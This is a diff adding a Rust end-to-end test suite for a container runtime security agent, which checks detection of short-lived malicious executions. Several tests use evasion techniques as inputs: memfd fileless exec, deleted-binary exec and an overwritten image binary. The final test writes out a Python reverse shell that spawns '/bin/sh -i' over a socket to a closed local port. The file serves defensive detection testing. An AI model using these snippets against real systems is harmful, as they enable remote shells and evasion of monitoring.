@@ -1,0 +1,401 @@
+//! End to end: a malicious binary or script is reported whatever its process's lifetime.
+//!
+//! Every scenario here runs in a container whose only process is the one under test and exits
+//! at once (`podman run --rm`, the entrypoint case), so nothing is left running by the time
+//! the agent reads the exec: `/proc/PID/exe` and `/proc/PID/root` are gone, and no other
+//! process of the container's mount namespace exists. The agent must hash what ran through
+//! fanotify's handle (or hold the process, for memfd) and read scripts without the process.
+//!
+//! With the default 50 ms poll the process is gone before its exec is read in most runs
+//! (before fanotify, 42 of 200 entrypoint containers were hashed here; docs/agent.md). A
+//! slower reader (500 ms, tried) also loses the container id of a container the runtime has
+//! already cleaned up (its cgroup is gone): not covered here.
+//!
+//! One agent is shared (its own intel feed: the testkit payloads, the image's
+//! `which.debianutils` script); each test asserts that the agent's hash misses that mean "the
+//! file was lost" (exe gone, identity mismatch) stay 0.
+//!
+//! Needs root and podman (`ward_testkit::require_containers!` skips otherwise).
+
+use serde_json::Value;
+use std::path::Path;
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+use ward_testkit::agent::{AgentOptions, WardAgent};
+use ward_testkit::{require_containers, Container, Exited, Images, Network, PodmanService};
+
+const WAIT: Duration = Duration::from_secs(10);
+const BUILT_IN: &str = "Execution: Built in Malicious Binary Executed";
+const ADDED: &str = "Execution: Added Malicious Binary Executed";
+const MODIFIED: &str = "Execution: Modified Malicious Binary Executed";
+const MALICIOUS_PYTHON: &str = "Execution: Malicious Python executed";
+const WHICH: &str = "/usr/bin/which.debianutils";
+
+fn podman_api() -> &'static Path {
+    static SERVICE: OnceLock<PodmanService> = OnceLock::new();
+    SERVICE
+        .get_or_init(|| PodmanService::start().unwrap_or_else(|e| panic!("{e}")))
+        .socket_path()
+}
+
+/// The sha256 of the image's `which.debianutils` (a shell script), read once.
+fn which_sha(images: &Images) -> &'static str {
+    static SHA: OnceLock<String> = OnceLock::new();
+    SHA.get_or_init(|| {
+        let c = Container::builder(&images.debian)
+            .name_prefix("which-sha")
+            .network(Network::Host)
+            .run(&["sleep", "60"])
+            .unwrap();
+        let out = c.exec_ok(&["sha256sum", WHICH]).unwrap();
+        out.split_whitespace().next().unwrap().to_string()
+    })
+}
+
+fn agent(images: &Images) -> &'static WardAgent {
+    static AGENT: OnceLock<(WardAgent, tempfile::TempDir)> = OnceLock::new();
+    &AGENT.get_or_init(|| start_agent(images, "")).0
+}
+
+/// An agent that reads the ring buffer only every second: whatever it does not hold at exec
+/// is long gone when it looks.
+fn late_agent(images: &Images) -> &'static WardAgent {
+    static AGENT: OnceLock<(WardAgent, tempfile::TempDir)> = OnceLock::new();
+    &AGENT
+        .get_or_init(|| {
+            start_agent(
+                images,
+                "poll_interval = \"1s\"\nhold_python_script_execs = true\n",
+            )
+        })
+        .0
+}
+
+fn start_agent(images: &Images, extra_toml: &str) -> (WardAgent, tempfile::TempDir) {
+    let dir = tempfile::tempdir().unwrap();
+    let feed = dir.path().join("feed.txt");
+    let mut text = std::fs::read_to_string(&images.intel_feed).unwrap();
+    text.push_str(&format!(
+        "{};which from the test image\n",
+        which_sha(images)
+    ));
+    std::fs::write(&feed, text).unwrap();
+    let opts = AgentOptions {
+        feeds: vec![feed],
+        toml: format!(
+            "docker_sockets = [\"{}\"]\n{extra_toml}",
+            podman_api().display()
+        ),
+        agent_keys: true,
+        health_log_interval: "5s".into(),
+        env: vec![("WARD_LOG".into(), "ward_enrich=debug".into())],
+        ..AgentOptions::default()
+    };
+    let a = WardAgent::start(Path::new(env!("CARGO_BIN_EXE_ward")), &opts)
+        .unwrap_or_else(|e| panic!("{e}"));
+    (a, dir)
+}
+
+fn for_container(agent: &WardAgent, id: &str) -> Vec<Value> {
+    agent
+        .findings()
+        .into_iter()
+        .filter(|f| f["sourceProperties"]["Container_Id"] == id)
+        .collect()
+}
+
+fn wait_for(agent: &WardAgent, id: &str, category: &str, pred: impl Fn(&Value) -> bool) -> Value {
+    let deadline = Instant::now() + WAIT;
+    loop {
+        let all = for_container(agent, id);
+        if let Some(f) = all.iter().find(|f| f["category"] == category && pred(f)) {
+            return f.clone();
+        }
+        if Instant::now() >= deadline {
+            let same_category: Vec<Value> = agent
+                .findings()
+                .into_iter()
+                .filter(|f| f["category"] == category)
+                .map(|f| {
+                    serde_json::json!({
+                        "container": f["sourceProperties"]["Container_Id"],
+                        "count": f["sourceProperties"]["Count"],
+                        "binary": f["processes"][0]["binary"],
+                    })
+                })
+                .collect();
+            panic!(
+                "no {category:?} finding for container {id} within {WAIT:?}; its findings:\n{}\nall {category:?} findings:\n{}\nmetrics:\n{}\nagent log:\n{}",
+                serde_json::to_string_pretty(&all).unwrap(),
+                serde_json::to_string_pretty(&same_category).unwrap(),
+                agent.scrape().unwrap_or_default(),
+                agent.log()
+            );
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// The value of one metric line (`name{labels}`) in the agent's /metrics.
+fn metric(text: &str, name: &str) -> f64 {
+    text.lines()
+        .find_map(|l| l.strip_prefix(name)?.strip_prefix(' '))
+        .and_then(|v| v.trim().parse().ok())
+        .unwrap_or_else(|| panic!("no metric {name} in\n{text}"))
+}
+
+/// Nothing the agent saw was lost for want of a file: no exec left unhashed because its
+/// process (and file) was gone, or because the file seen was another.
+fn assert_no_lost_files(agent: &WardAgent) {
+    // The metrics server answers one scrape at a time: retry a refused or reset one.
+    let mut tries = 0;
+    let text = loop {
+        match agent.scrape() {
+            // (The text is filled once a second: empty right after the start.)
+            Ok(t) if t.starts_with("HTTP/1.1 200") && t.contains("ward_fanotify_up") => break t,
+            r if tries < 50 => {
+                tries += 1;
+                let _ = r;
+                std::thread::sleep(Duration::from_millis(100));
+            }
+            r => panic!("scraping the agent's metrics: {r:?}"),
+        }
+    };
+    for reason in ["exe_gone", "identity_mismatch"] {
+        let n = metric(
+            &text,
+            &format!("ward_enrich_hash_misses_total{{reason=\"{reason}\"}}"),
+        );
+        assert_eq!(
+            n,
+            0.0,
+            "hash misses ({reason}):\n{text}\nagent log (exe lines):\n{}",
+            agent
+                .log()
+                .lines()
+                .filter(|l| l.contains("exe"))
+                .collect::<Vec<_>>()
+                .join("\n")
+        );
+    }
+    assert_eq!(metric(&text, "ward_fanotify_up"), 1.0, "{text}");
+}
+
+fn run_to_exit(image: &str, prefix: &str, cmd: &[&str]) -> Exited {
+    Container::builder(image)
+        .name_prefix(prefix)
+        .network(Network::Host)
+        .run_to_exit(cmd)
+        .unwrap()
+}
+
+fn proc0<'a>(f: &'a Value, field: &str) -> &'a Value {
+    &f["processes"][0]["binary"][field]
+}
+
+fn sha(f: &Value) -> &str {
+    proc0(f, "sha256").as_str().unwrap_or("")
+}
+
+/// The payload as the entrypoint: it prints its line and exits before the agent reads the exec.
+#[test]
+fn entrypoint_binary_is_built_in() {
+    let images = require_containers!();
+    let agent = agent(&images);
+    let x = run_to_exit(&images.debian, "entry", &[&images.payload_path]);
+    assert!(x.stdout.contains("WARD-TEST-PAYLOAD"), "{x:?}");
+    let f = wait_for(agent, &x.id, BUILT_IN, |_| true);
+    assert_eq!(sha(&f), images.payload_sha256);
+    assert_eq!(proc0(&f, "path"), images.payload_path.as_str());
+    assert_eq!(f["sourceProperties"]["File_Layer"], "image", "{f:#}");
+    assert_no_lost_files(agent);
+}
+
+/// 20 entrypoint containers in a row, each reported: the outcome does not depend on timing.
+#[test]
+fn entrypoint_binary_twenty_times() {
+    let images = require_containers!();
+    let agent = agent(&images);
+    let mut ids = Vec::new();
+    for _ in 0..20 {
+        ids.push(run_to_exit(&images.busybox, "entry20", &[&images.payload_path]).id);
+    }
+    for id in &ids {
+        let f = wait_for(agent, id, BUILT_IN, |_| true);
+        assert_eq!(sha(&f), images.payload_sha256);
+    }
+    assert_no_lost_files(agent);
+}
+
+/// The last command of `sh -c`, which the shell execs in place of itself.
+#[test]
+fn last_command_of_sh_c_is_built_in() {
+    let images = require_containers!();
+    let agent = agent(&images);
+    let cmd = format!("echo start; {}", images.payload_path);
+    let x = run_to_exit(&images.debian, "shc", &["sh", "-c", &cmd]);
+    assert!(x.stdout.contains("WARD-TEST-PAYLOAD"), "{x:?}");
+    let f = wait_for(agent, &x.id, BUILT_IN, |_| true);
+    assert_eq!(sha(&f), images.payload_sha256);
+    assert_no_lost_files(agent);
+}
+
+/// A copy of an image binary run from /tmp: the upper layer, Added.
+#[test]
+fn copy_run_from_tmp_is_added() {
+    let images = require_containers!();
+    let agent = agent(&images);
+    let cmd = format!("cp {} /tmp/p && exec /tmp/p", images.payload_path);
+    let x = run_to_exit(&images.debian, "tmpcopy", &["sh", "-c", &cmd]);
+    assert!(x.stdout.contains("WARD-TEST-PAYLOAD"), "{x:?}");
+    let f = wait_for(agent, &x.id, ADDED, |f| proc0(f, "path") == "/tmp/p");
+    assert_eq!(sha(&f), images.payload_sha256);
+    assert_eq!(f["sourceProperties"]["File_Layer"], "added", "{f:#}");
+    assert_no_lost_files(agent);
+}
+
+/// An image binary overwritten with the payload and run: copied up over the lower file,
+/// Modified.
+#[test]
+fn overwritten_image_binary_is_modified() {
+    let images = require_containers!();
+    let agent = agent(&images);
+    let cmd = format!(
+        "cat {} > /usr/bin/whoami && exec /usr/bin/whoami",
+        images.payload_path
+    );
+    let x = run_to_exit(&images.debian, "overwrite", &["sh", "-c", &cmd]);
+    assert!(x.stdout.contains("WARD-TEST-PAYLOAD"), "{x:?}");
+    let f = wait_for(agent, &x.id, MODIFIED, |f| {
+        proc0(f, "path") == "/usr/bin/whoami"
+    });
+    assert_eq!(sha(&f), images.payload_sha256);
+    assert_eq!(f["sourceProperties"]["File_Layer"], "modified", "{f:#}");
+    assert_no_lost_files(agent);
+}
+
+/// Fileless: python3 copies the payload into a memfd and execs it through /proc/self/fd.
+#[test]
+fn memfd_exec_is_reported() {
+    let images = require_containers!();
+    let agent = agent(&images);
+    let code = format!(
+        "import os\n\
+         fd = os.memfd_create('payload')\n\
+         os.write(fd, open('{}', 'rb').read())\n\
+         os.execve('/proc/self/fd/%d' % fd, ['payload'], {{}})\n",
+        images.payload_path
+    );
+    let x = run_to_exit(&images.debian, "memfd", &["python3", "-c", &code]);
+    assert!(x.stdout.contains("WARD-TEST-PAYLOAD"), "{x:?}");
+    let f = wait_for(agent, &x.id, ADDED, |f| sha(f) == images.payload_sha256);
+    assert_eq!(f["sourceProperties"]["File_Layer"], "memfd", "{f:#}");
+    assert_no_lost_files(agent);
+}
+
+/// The payload copied to the host's /dev/shm (a tmpfs; podman mounts a container's /dev/shm
+/// `noexec`) and run from there by a process that exits at once: not from an image, Added.
+#[test]
+fn binary_run_from_dev_shm_is_added() {
+    let images = require_containers!();
+    let agent = agent(&images);
+    let path = format!("/dev/shm/ward-test-payload-{}", std::process::id());
+    // Copied and run by one shell: a copy written by this (multi-threaded) test process could
+    // be open in a child another test forks at that moment (ETXTBSY at exec).
+    let out = std::process::Command::new("sh")
+        .arg("-c")
+        .arg("cp \"$0\" \"$1\" && \"$1\"; rc=$?; rm -f \"$1\"; exit $rc")
+        .arg(&images.payload_host_copy)
+        .arg(&path)
+        .output()
+        .unwrap();
+    assert!(String::from_utf8_lossy(&out.stdout).contains("WARD-TEST-PAYLOAD"));
+    let deadline = Instant::now() + WAIT;
+    let f = loop {
+        let found = agent
+            .findings()
+            .into_iter()
+            .find(|f| f["category"] == ADDED && proc0(f, "path") == path.as_str());
+        if let Some(f) = found {
+            break f;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "no Added finding for {path}; agent log:\n{}",
+            agent.log()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    assert_eq!(sha(&f), images.payload_sha256);
+    assert_no_lost_files(agent);
+}
+
+/// A deleted binary run through an fd that still holds it (`/proc/self/fd/3`): layer
+/// `deleted`, Added.
+#[test]
+fn deleted_binary_is_added() {
+    let images = require_containers!();
+    let agent = agent(&images);
+    let cmd = format!(
+        "cp {} /tmp/d && exec 3</tmp/d && rm /tmp/d && exec /proc/self/fd/3",
+        images.payload_path
+    );
+    let x = run_to_exit(&images.debian, "deleted", &["bash", "-c", &cmd]);
+    assert!(x.stdout.contains("WARD-TEST-PAYLOAD"), "{x:?}");
+    let f = wait_for(agent, &x.id, ADDED, |f| sha(f) == images.payload_sha256);
+    assert_eq!(f["sourceProperties"]["File_Layer"], "deleted", "{f:#}");
+    assert_no_lost_files(agent);
+}
+
+/// A script from the image whose hash is in intel, as the entrypoint: Built in (the layer is
+/// found without the process).
+#[test]
+fn image_script_as_entrypoint_is_built_in() {
+    let images = require_containers!();
+    let agent = agent(&images);
+    let sum = which_sha(&images);
+    let x = run_to_exit(&images.debian, "script", &[WHICH, "ls"]);
+    assert!(x.stdout.contains("/ls"), "{x:?}");
+    let f = wait_for(agent, &x.id, BUILT_IN, |f| {
+        f["sourceProperties"]["Matched_File"] == "script"
+    });
+    assert_eq!(f["sourceProperties"]["Matched_Sha256"], sum);
+    assert_eq!(f["sourceProperties"]["File_Layer"], "image", "{f:#}");
+    assert_no_lost_files(agent);
+}
+
+/// A Python dropper script file whose connection fails at once (nothing listens): it runs for
+/// a few milliseconds, and its contents are still captured and scored, by an agent that reads
+/// the ring only every second (the exec is held until the script is read).
+#[test]
+fn short_lived_python_script_file_is_scored() {
+    let images = require_containers!();
+    let agent = late_agent(&images);
+    // A closed port on 127.0.0.1: connect() is refused at once and the script dies.
+    let port = {
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        l.local_addr().unwrap().port()
+    };
+    let body = format!(
+        "import socket, subprocess, os\n\
+         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
+         s.connect(('127.0.0.1', {port}))\n\
+         os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\
+         subprocess.call(['/bin/sh', '-i'])\n"
+    );
+    let x = run_to_exit(
+        &images.debian,
+        "pyshort",
+        &[
+            "sh",
+            "-c",
+            "printf '%s' \"$0\" > /tmp/sync.py && exec python3 /tmp/sync.py || true",
+            &body,
+        ],
+    );
+    let f = wait_for(agent, &x.id, MALICIOUS_PYTHON, |_| true);
+    let script = &f["processes"][0]["script"];
+    assert_eq!(script["path"], "/tmp/sync.py", "{f:#}");
+    assert_eq!(script["contents"], body.as_str(), "{f:#}");
+    assert_no_lost_files(agent);
+}
